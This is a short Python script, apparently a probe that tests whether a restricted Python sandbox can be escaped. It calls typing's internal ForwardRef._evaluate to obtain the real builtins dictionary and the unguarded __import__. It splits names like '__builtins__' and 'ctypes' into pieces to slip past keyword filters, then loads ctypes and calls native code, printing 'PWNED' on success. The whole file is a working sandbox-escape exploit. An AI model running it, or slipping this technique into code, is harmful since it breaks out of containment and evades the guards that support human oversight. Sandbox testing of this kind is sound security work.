# door: the real __import__ of a module not yet loaded (ctypes) from the program's frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

try:
    c = imp("ctyp" + "es")
    print(M, c.CDLL(None).getpid())
except Exception as e:
    print("refused:", type(e).__name__, e)
